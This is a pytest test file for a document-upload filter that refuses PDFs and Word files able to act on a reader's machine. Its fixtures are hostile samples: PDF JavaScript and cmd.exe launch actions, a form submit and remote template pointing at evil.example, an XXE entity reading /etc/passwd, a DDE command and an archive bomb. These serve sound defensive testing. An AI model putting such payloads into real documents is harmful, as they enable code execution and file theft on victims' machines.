"""Documents that could act on a reader's machine are refused; plain ones are kept."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest

from workflows.errors import AttachmentInvalid
from workflows.paperwork import upload_rules
from workflows.paperwork.upload_rules import ensure_harmless

PDF = "application/pdf"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def office(**files: bytes) -> bytes:
    """Return a zip with these files."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", files.pop("kinds", b"<Types/>"))
        for name, content in files.items():
            archive.writestr(f"word/{name}", content)
    return buffer.getvalue()


def link(kind: str, target: str, encoding: str = "utf-8") -> bytes:
    """Return a part that names another place."""
    place = f'<Relationship Id="a>" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{place}</Relationships>".encode(encoding)


@pytest.mark.parametrize(
    ("media_type", "content"),
    [
        (PDF, b"%PDF-1.7 << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
        (PDF, b"%PDF-1.7 << /S /J#61vaScript >>"),
        (PDF, b"%PDF-1.7 << /S /Launch /F (cmd.exe) >>"),
        (PDF, b"%PDF-1.7 stream\n" + zlib.compress(b"<< /Names << /EmbeddedFiles 1 0 R >> >>")),
        (PDF, b"%PDF-1.7 /Encrypt 1 0 R"),
        (PDF, b"%PDF-1.7 7 0 obj << /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >> stream\n789c"),
        (PDF, b"%PDF-1.7 7 0 obj << /Type /Obj#53tm /Filter /LZWDecode >> stream\n800B"),
        (WORD, office(**{"vbaProject.bin": b"x"})),
        (WORD, office(kinds=b"application/vnd.ms-word.document.macroEnabled.main+xml")),
        (PDF, b"%PDF-1.7 << /AA << /O << /S /SubmitForm /F (http://evil.example) >> >> >>"),
        (WORD, office(**{"embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        (WORD, office(**{"activeX/activeX1.bin": b"x"})),
        (
            WORD,
            office(**{"_rels/settings.xml.rels": link("attachedTemplate", "https://evil.example/x.dotm")}),
        ),
        (WORD, office(**{"_rels/settings.xml.rels": link("attachedTemplate", "&#104;ttp://evil.example/x")})),
        (WORD, office(**{"_rels/settings.xml.rels": link("frame", "file://evil/x", "utf-16")})),
        (WORD, office(**{"../xl/externalLinks/externalLink1.xml": b"<x:ddeLink ddeService='cmd'/>"})),
        (WORD, b"PK\x03\x04 broken"),
        (WORD, office(kinds=b" " * 1_000_001 + b"macroEnabled")),
        (
            WORD,
            office(**{"_rels/a.rels": b" " * 1_100_000 + link("attachedTemplate", "https://evil.example/x")}),
        ),
        (WORD, office(**{"_rels/a.rels": b" " * (upload_rules.MOST_LINKING + 1)})),
        (
            WORD,
            office(**{"document.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
        ),
        (WORD, office(**{"document.xml": '<?xml version="1.0"?><!doctype a>'.encode("utf-16")})),
        (WORD, office(**{"document.xml": b"<w/>", "Document.xml": b"<w/>"})),
        ("application/msword", b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT".encode("utf-16-le")),
    ],
)
def test_active_documents_are_refused(media_type: str, content: bytes) -> None:
    """
    Scripts, launchers, hidden files and macros, also packed or misspelt on purpose.
    """
    with pytest.raises(AttachmentInvalid):
        ensure_harmless("x", media_type, content)


def test_an_archive_bomb_is_refused_unopened(monkeypatch: pytest.MonkeyPatch) -> None:
    """
    What an office document would unpack to is read from its directory, not tried.
    """
    monkeypatch.setattr(upload_rules, "MOST_UNPACKED", 1_000_000)

    with pytest.raises(AttachmentInvalid, match="过大"):
        ensure_harmless("x", WORD, office(a=b"0" * 2_000_000))


@pytest.mark.parametrize(
    ("media_type", "content"),
    [
        (PDF, b"%PDF-1.7 << /Type /Catalog /OpenAction [3 0 R /Fit] >> stream\n" + zlib.compress(b"BT ET")),
        (PDF, b"%PDF-1.7 7 0 obj << /Type /XObject /Filter /ASCII85Decode >> stream\n87cUR~>"),
        (WORD, office(**{"document.xml": b"<w/>"})),
        (WORD, office(**{"_rels/document.xml.rels": link("hyperlink", "https://www.gov.cn/")})),
        (WORD, office(**{"_rels/settings.xml.rels": link("attachedTemplate", r"file:///C:\Users\a\x.dotm")})),
        (WORD, office(**{"embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"})),
        ("text/plain", b"/JavaScript"),
    ],
)
def test_plain_documents_are_kept(media_type: str, content: bytes) -> None:
    """
    What people upload every day passes.
    """
    ensure_harmless("x", media_type, content)


def test_a_pdf_of_countless_streams_is_refused_before_it_is_unpacked() -> None:
    """
    A file of a few megabytes would keep a thread busy for minutes.
    """
    with pytest.raises(AttachmentInvalid, match="过于复杂"):
        ensure_harmless("x", PDF, b"%PDF-1.7 " + b"stream\n" * (upload_rules.MOST_STREAMS + 1))


def test_streams_that_break_off_count_against_what_is_looked_into(monkeypatch: pytest.MonkeyPatch) -> None:
    """
    Each stream unpacks and then fails: together they cost no more than whole ones.
    """
    monkeypatch.setattr(upload_rules, "MOST_INFLATED", 100_000)
    packed = zlib.compress(b"a" * 60_000)[:-4] + b"....."
    seen: list[int] = []
    unpack = upload_rules._unpacked
    monkeypatch.setattr(upload_rules, "_unpacked", lambda *one: seen.append(1) or unpack(*one))

    ensure_harmless("x", PDF, b"%PDF-1.7 " + (b"stream\n" + packed + b" end") * 50)

    assert len(seen) <= 3


def test_what_stands_behind_a_stream_is_not_unpacked_again_and_again() -> None:
    """
    A stream that is shorter than the file ends; what it held was looked into.
    """
    packed = zlib.compress(b" " * 100_000 + b"/JavaScript")

    with pytest.raises(AttachmentInvalid, match="脚本"):
        ensure_harmless("x", PDF, b"%PDF-1.7 stream\n" + packed + b" endstream" * 1000)
